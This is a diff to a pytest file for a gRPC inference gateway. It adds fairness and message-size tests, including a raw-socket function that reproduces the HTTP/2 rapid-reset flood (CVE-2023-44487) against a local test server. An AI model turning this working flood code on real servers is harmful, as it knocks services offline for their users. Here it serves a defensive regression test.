@@ -2,6 +2,9 @@
 
 import asyncio
 import itertools
+import socket
+import struct
+import threading
 from typing import Any
 
 import grpc
@@ -10,7 +13,7 @@ from grpc_health.v1 import health_pb2, health_pb2_grpc
 
 from services.gateway.grpc import anonymous_reader
 from services.gateway.grpc import health as grpc_health
-from services.gateway.grpc.server import SERVICE
+from services.gateway.grpc.server import SERVICE, serve_grpc
 from services.gateway.policy.auth import KeyRing
 from services.gateway.policy.memory_budget import MAX_WAITING_PER_TENANT, MemoryBudget, MessageReader
 from services.gateway.tests.grpc_front import INFER, call
@@ -42,7 +45,7 @@ async def test_idle_calls_without_a_key_keep_nobody_from_an_answer(front, tmp_pa
     _, key = KeyRing(tmp_path / "keys.json").add("bob", ("infer",))
     scene, channel = await front(auth="keys")
     before = scene.app.state.gateway.proxy.budget.left
-    idle = open_idle(channel, CHECK, 64) + open_idle(channel, f"/{SERVICE}/ServerLive", 32)
+    idle = open_idle(channel, CHECK, 96)
     await until_sent(idle)
     status = await health_pb2_grpc.HealthStub(channel).Check(health_pb2.HealthCheckRequest(), timeout=SOON_S)
     assert status.status == health_pb2.HealthCheckResponse.NOT_SERVING
@@ -72,7 +75,63 @@ async def test_so_many_calls_watch(front, monkeypatch):
 async def test_a_message_without_a_key_has_a_name_at_most(front):
     _, channel = await front(auth="keys")
     with pytest.raises(grpc.aio.AioRpcError, match="at most 1,024 bytes"):
-        await call(channel, "ServerLive", b"x" * 2000)
+        await channel.unary_unary(CHECK)(b"x" * 2000)
+
+
+@pytest.mark.parametrize("method", ["ServerLive", "ServerReady"])
+async def test_a_message_that_does_not_matter_is_not_read(front, method):
+    _, channel = await front(auth="keys")
+    silent = channel.stream_stream(f"/{SERVICE}/{method}")(timeout=SOON_S)
+    assert isinstance(await silent.read(), bytes)
+
+
+def build_frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
+    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload
+
+
+def reset_rapidly(port: int, path: str, count: int) -> None:
+    """Begin streams of HTTP/2 and reset each at once, as in CVE-2023-44487."""
+
+    def literal(index: bytes, value: bytes) -> bytes:
+        return index + bytes([len(value)]) + value
+
+    fields = (
+        literal(b"\x04", path.encode()) + literal(b"\x01", b"x") + literal(b"\x00\x0ccontent-type", b"application/grpc")
+    )
+    block = b"\x83\x86" + fields + literal(b"\x00\x02te", b"trailers")
+    with socket.create_connection(("127.0.0.1", port), timeout=60) as link:
+        link.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + build_frame(4, 0, 0))
+        threading.Thread(target=lambda: [None for _ in iter(lambda: read_some(link), b"")], daemon=True).start()
+        for first in range(0, count, 50):
+            streams = range(2 * first + 1, 2 * first + 101, 2)
+            cancel = struct.pack(">I", 8)
+            link.sendall(b"".join(build_frame(1, 4, n, block) + build_frame(3, 0, n, cancel) for n in streams))
+
+
+def read_some(link: socket.socket) -> bytes:
+    try:
+        return link.recv(65536)
+    except OSError:
+        return b""
+
+
+@pytest.mark.parametrize("path", [CHECK, f"/{SERVICE}/ModelInfer"])
+async def test_streams_that_are_reset_at_once_keep_nobody_from_an_answer(gateway, replica, tmp_path, path):
+    _, bob = KeyRing(tmp_path / "keys.json").add("bob", ("infer",))
+    scene = await gateway(auth="keys")
+    _, address, _ = await replica("one")
+    scene.announce("http://127.0.0.1:1", grpc=address)
+    server, port = await serve_grpc(scene.app.state.gateway, "127.0.0.1", 0)
+    async with grpc.aio.insecure_channel(f"127.0.0.1:{port}") as channel:
+        flood = asyncio.create_task(asyncio.to_thread(reset_rapidly, port, path, 20_000))
+        answered = 0
+        while not flood.done() or answered < 5:
+            answer = await call(channel, "ModelInfer", INFER, metadata=(("x-api-key", bob),), timeout=SOON_S)
+            answered += answer == b"one|" + INFER
+            await asyncio.sleep(0.01)
+        await flood
+        assert scene.app.state.gateway.fair._services["svc"].in_flight == 0
+    await server.stop(None)
 
 
 async def test_idle_calls_of_one_tenant_leave_another_its_turn(front, replica, tmp_path):
